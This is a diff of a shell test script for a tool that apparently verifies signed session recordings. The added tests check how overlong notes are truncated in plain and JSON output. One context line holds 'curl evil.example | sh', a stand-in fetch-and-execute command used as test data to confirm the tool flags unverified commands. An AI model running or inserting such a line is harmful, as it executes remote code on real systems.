@@ -272,6 +272,15 @@ expect 2 "$R" -c conf info longcut.tgr
 grep -q "^command shown: *4096 of 5029 bytes; the rest is in a note past the verified part" out.txt &&
 	grep -q "^UNVERIFIED: *echo a*; curl evil.example | sh\$" out.txt &&
 	! grep -q "^command: .*curl" out.txt || tg_fail "info: an unverified command note: $(grep -a '^command shown' out.txt)"
+# a note too long for its line is shown in part, and says so (info --json has it whole)
+printf 'out 1000 x\nnote 2000 {"event":"sudo","argv":"%sEND"}\nseal 3000 {}\n' \
+	"$(head -c 2000 /dev/zero | tr '\0' b)" | "$G" script k/signing.key longnote.tgr ||
+	tg_fail "make longnote.tgr"
+expect 0 "$R" -c conf info longnote.tgr
+grep -q '^notes: *0:00:00.002 {"event":"sudo","argv":"b*\.\.\. (cut: 800 of 2029 bytes shown; info --json has it whole)$' out.txt ||
+	tg_fail "info: a long note cut without a word: $(grep -a '^notes' out.txt | tail -c 100)"
+expect 0 "$R" -c conf info --json longnote.tgr
+grep -q 'bEND"$' out.txt || tg_fail "info --json: a long note not whole"
 # a file name need not be UTF-8 (Latin-1 from a Windows share), and JSON must be: U+FFFD
 cp good.tgr "$(printf 'caf\351.tgr')"
 expect 0 "$R" -c conf info --json "$(printf 'caf\351.tgr')"
